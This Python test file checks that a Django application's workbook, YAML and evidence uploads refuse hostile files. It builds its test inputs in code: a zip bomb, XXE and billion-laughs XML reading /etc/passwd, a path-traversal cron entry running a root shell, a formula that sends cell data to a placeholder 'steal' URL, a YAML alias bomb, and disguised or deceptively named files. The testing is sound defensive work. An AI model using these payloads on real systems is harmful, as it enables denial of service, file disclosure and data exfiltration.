"""Every upload and import path fed hostile files: each gets a clear Chinese
error, leaves nothing behind and costs little memory (measured with
tracemalloc; the bound is asserted, the figures are in the README)."""

import tracemalloc
import zipfile
from io import BytesIO

import pytest
from django.core.files import File
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook

from branches.models import Branch
from common.files import clean_filename
from common.workbooks import WorkbookRefused, open_uploaded_workbook
from records.photos import photo_store
from scoring.evidence import EvidenceRefused, evidence_add
from scoring.framework_io import spec_from_yaml
from scoring.models import Evidence, Framework
from scoring.spec import SpecError
from tests.security.test_permission_sweep import PNG

MB = 1024 * 1024


def _workbook() -> bytes:
    book = Workbook()
    book.active.append(["乡镇", "党支部名称"])
    out = BytesIO()
    book.save(out)
    return out.getvalue()


def _with_entries(extra: dict[str, bytes], *, base: bytes | None = None) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(BytesIO(base or _workbook())) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for item in source.infolist():
            zf.writestr(item, source.read(item.filename))
        for name, data in extra.items():
            zf.writestr(name, data)
    return out.getvalue()


def _bomb() -> bytes:
    """200 MB of zeros that pack into a few hundred KB, written without holding them in memory."""
    out = BytesIO()
    with zipfile.ZipFile(BytesIO(_workbook())) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for item in source.infolist():
            zf.writestr(item, source.read(item.filename))
        with zf.open("xl/worksheets/sheet2.xml", "w", force_zip64=True) as big:
            for _ in range(200):
                big.write(b"\0" * MB)
    return out.getvalue()


def _entity_trick() -> bytes:
    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;">'
        b'<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>&lol2;&xxe;</t></is></c></row></sheetData></worksheet>'
    )
    out = BytesIO()
    with zipfile.ZipFile(BytesIO(_workbook())) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for item in source.infolist():
            data = laughs if item.filename == "xl/worksheets/sheet1.xml" else source.read(item.filename)
            zf.writestr(item, data)
    return out.getvalue()


HOSTILE_WORKBOOKS = {
    "macros": (lambda: _with_entries({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"}), "文件含有宏"),
    "external link": (
        lambda: _with_entries({"xl/externalLinks/externalLink1.xml": b"<externalLink/>"}),
        "外部链接",
    ),
    "zip bomb": (_bomb, "解压后过大"),
    "too many entries": (lambda: _with_entries({f"xl/media/x{i}.bin": b"x" for i in range(1200)}), "条目过多"),
    "path traversal": (lambda: _with_entries({"../../etc/cron.d/evil": b"* * * * * root sh"}), "路径不合法"),
    "entity tricks": (_entity_trick, "无法读取该文件"),
    "a picture named .xlsx": (lambda: PNG, "无法读取该文件"),
}


@pytest.mark.parametrize("case", HOSTILE_WORKBOOKS)
def test_hostile_workbooks_are_refused_by_the_register_import_and_save_nothing(case, cast, client_for):
    build, message = HOSTILE_WORKBOOKS[case]
    data = build()
    before = Branch.objects.count()
    response = client_for(cast.users["township_staff"]).post(
        reverse("branches:import"), {"file": SimpleUploadedFile("登记册.xlsx", data)}
    )
    assert message in response.content.decode(), case
    assert Branch.objects.count() == before


@pytest.mark.parametrize("case", HOSTILE_WORKBOOKS)
def test_hostile_workbooks_are_refused_by_the_framework_import(case, cast, client_for):
    build, message = HOSTILE_WORKBOOKS[case]
    before = Framework.objects.count()
    response = client_for(cast.users["township_staff"]).post(
        reverse("scoring:framework_import"), {"file": SimpleUploadedFile("标准.xlsx", build())}
    )
    assert message in response.content.decode()
    assert Framework.objects.count() == before


def _with_formula(data: bytes, sheet_name: str, cell: str) -> bytes:
    """The product's own workbook, with one filled-in cell turned into a formula (its cached value a lie)."""
    from openpyxl import load_workbook

    book = load_workbook(BytesIO(data))
    book[sheet_name][cell] = '=HYPERLINK("http://example.invalid/steal?"&A2,"10")'
    out = BytesIO()
    book.save(out)
    return out.getvalue()


def test_a_formula_in_a_register_import_is_refused_naming_its_cell(cast, client_for):
    from branches.register_xlsx import BRANCH_SHEET, register_export

    data = _with_formula(register_export(Branch.objects.filter(pk=cast.branch.pk)), BRANCH_SHEET, "C2")
    before = [(b.pk, b.name, b.households) for b in Branch.objects.order_by("pk")]
    response = client_for(cast.users["township_staff"]).post(
        reverse("branches:import"), {"file": SimpleUploadedFile("登记册.xlsx", data)}
    )
    assert f"“{BRANCH_SHEET}”工作表第 2 行" in response.content.decode()
    assert "是公式，系统只读取填写的数值" in response.content.decode()
    assert [(b.pk, b.name, b.households) for b in Branch.objects.order_by("pk")] == before


def test_a_formula_in_a_framework_import_is_refused(cast, client_for):
    from scoring.builtin import load_builtin_frameworks
    from scoring.framework_io import ITEM_SHEET, spec_to_xlsx
    from scoring.selectors import framework_spec

    load_builtin_frameworks()
    data = _with_formula(spec_to_xlsx(framework_spec(Framework.objects.get(code="wuhao"))), ITEM_SHEET, "E3")
    before = Framework.objects.count()
    response = client_for(cast.users["township_staff"]).post(
        reverse("scoring:framework_import"), {"file": SimpleUploadedFile("标准.xlsx", data)}
    )
    assert "是公式，系统只读取填写的数值" in response.content.decode()
    assert Framework.objects.count() == before


def _with_broken_shared_formula(data: bytes) -> bytes:
    """A formula openpyxl cannot even parse (a shared formula with unterminated text)."""
    import re

    out = BytesIO()
    with zipfile.ZipFile(BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for item in source.infolist():
            part = source.read(item.filename)
            if item.filename.startswith("xl/worksheets/sheet"):
                part = re.sub(rb"<f>[^<]*</f>", b'<f t="shared" si="0" ref="C2:C3">"unterminated</f>', part)
            zf.writestr(item, part)
    return out.getvalue()


def test_a_formula_openpyxl_cannot_parse_is_refused_not_a_crash(cast, client_for):
    from branches.register_xlsx import BRANCH_SHEET, register_export

    own = _with_formula(register_export(Branch.objects.filter(pk=cast.branch.pk)), BRANCH_SHEET, "C2")
    data = _with_broken_shared_formula(own)
    assert b"unterminated" in zipfile.ZipFile(BytesIO(data)).read("xl/worksheets/sheet1.xml")
    response = client_for(cast.users["township_staff"]).post(
        reverse("branches:import"), {"file": SimpleUploadedFile("登记册.xlsx", data)}
    )
    assert response.status_code == 200 and "无法读取该文件" in response.content.decode()


@pytest.mark.parametrize("case", [*HOSTILE_WORKBOOKS, "formula"])
def test_hostile_workbooks_are_refused_by_the_offline_sheet_upload(case, sheet, cast, client_for):
    from scoring.selectors import framework_spec
    from scoring.services import sheet_entries
    from scoring.sheet_xlsx import ENTRY_SHEET, sheet_to_xlsx

    if case == "formula":
        own = sheet_to_xlsx(sheet, framework_spec(sheet.framework), sheet_entries(sheet))
        data, message = _with_formula(own, ENTRY_SHEET, "H2"), "是公式，系统只读取填写的数值"  # 填写
    else:
        build, message = HOSTILE_WORKBOOKS[case]
        data = build()
    before = sorted(sheet.entries.values_list("item__code", "met", "occurrences", "points"))
    response = client_for(cast.users["branch_secretary"]).post(
        reverse("scoring:sheet_upload", args=[sheet.pk]), {"file": SimpleUploadedFile("评分表.xlsx", data)}
    )
    assert message in response.content.decode(), case
    assert sorted(sheet.entries.values_list("item__code", "met", "occurrences", "points")) == before


def test_entity_tricks_are_refused_with_little_memory():
    tracemalloc.start()
    try:
        with pytest.raises(WorkbookRefused, match="无法读取该文件"):
            open_uploaded_workbook(SimpleUploadedFile("x.xlsx", _entity_trick()), max_bytes=5 * MB)
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 2 * MB


def test_a_zip_bomb_is_refused_before_it_is_unpacked_with_little_memory():
    data = _bomb()
    upload = SimpleUploadedFile("bomb.xlsx", data)
    tracemalloc.start()
    try:
        with pytest.raises(WorkbookRefused, match="解压后过大"):
            open_uploaded_workbook(upload, max_bytes=5 * MB)
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert len(data) < MB and peak < 5 * MB  # 200 MB declared, never decompressed


def test_a_yaml_bomb_is_refused():
    bomb = (
        "a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\nc: [*b, *b, *b, *b, *b, *b]\n"
    )
    with pytest.raises(SpecError, match="锚点和别名"):
        spec_from_yaml(bomb)


@pytest.fixture
def sheet(cast):
    from scoring.builtin import load_builtin_frameworks
    from scoring.services import score_sheet_create

    load_builtin_frameworks()
    return score_sheet_create(
        framework=Framework.objects.get(code="wuhao"),
        branch=cast.branch,
        stage="self_assessment",
        year=2026,
        actor=cast.users["branch_secretary"],
    )


def _stored(tmp_path):
    return [p for p in tmp_path.rglob("*") if p.is_file()]


def test_a_50_mb_upload_is_refused_by_its_size_without_being_read(sheet, cast, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    big = tmp_path / "big.jpg"
    with big.open("wb") as out:
        out.truncate(50 * MB)  # sparse: 50 MB as far as the upload can tell
    tracemalloc.start()
    try:
        with big.open("rb") as stream, pytest.raises(EvidenceRefused, match="超过单个文件 15 MB"):
            evidence_add(
                sheet=sheet, item_code="1.1", upload=File(stream, name="big.jpg"), actor=cast.users["branch_secretary"]
            )
        with big.open("rb") as stream, pytest.raises(WorkbookRefused, match="文件过大"):
            open_uploaded_workbook(File(stream, name="登记册.xlsx"), max_bytes=5 * MB)
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 2 * MB
    assert not Evidence.objects.exists() and _stored(tmp_path / "media") == []


@pytest.mark.parametrize(
    "name,data,message",
    [
        ("会议照片.jpg", b"MZ\x90\x00\x03 this is a Windows program", "内容不是这几种格式"),
        ("签到表.png", b"%PDF-1.7 without an end", "已损坏"),
        ("扫描件.pdf", PNG[:40], "已损坏"),
    ],
)
def test_wrong_types_with_right_names_are_refused_and_leave_nothing(
    name, data, message, sheet, cast, settings, tmp_path
):
    settings.MEDIA_ROOT = tmp_path
    with pytest.raises(EvidenceRefused, match=message):
        evidence_add(
            sheet=sheet, item_code="1.1", upload=SimpleUploadedFile(name, data), actor=cast.users["branch_secretary"]
        )
    assert not Evidence.objects.exists() and _stored(tmp_path) == []


def test_path_traversal_nul_and_right_to_left_names_are_made_harmless(cast, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    hostile = "..\\..\\..\\etc/passwd\u202egpj.exe\x00照片.png"
    evidence = photo_store(
        branch=cast.branch, upload=SimpleUploadedFile(hostile, PNG), actor=cast.users["branch_secretary"]
    )
    assert evidence.original_name == "passwdgpj.exe照片.png"
    assert not any(ch in evidence.original_name for ch in ("/", "\\", "\x00", "\u202e"))
    stored = _stored(tmp_path / "media")
    assert len(stored) == 1 and stored[0].is_relative_to(tmp_path / "media" / "evidence")
    assert clean_filename("../..") == "未命名文件"


def test_openpyxl_parses_with_defusedxml():
    from openpyxl.xml import DEFUSEDXML

    assert DEFUSEDXML  # installed from requirements/runtime.lock, so entity tricks never reach the XML parser
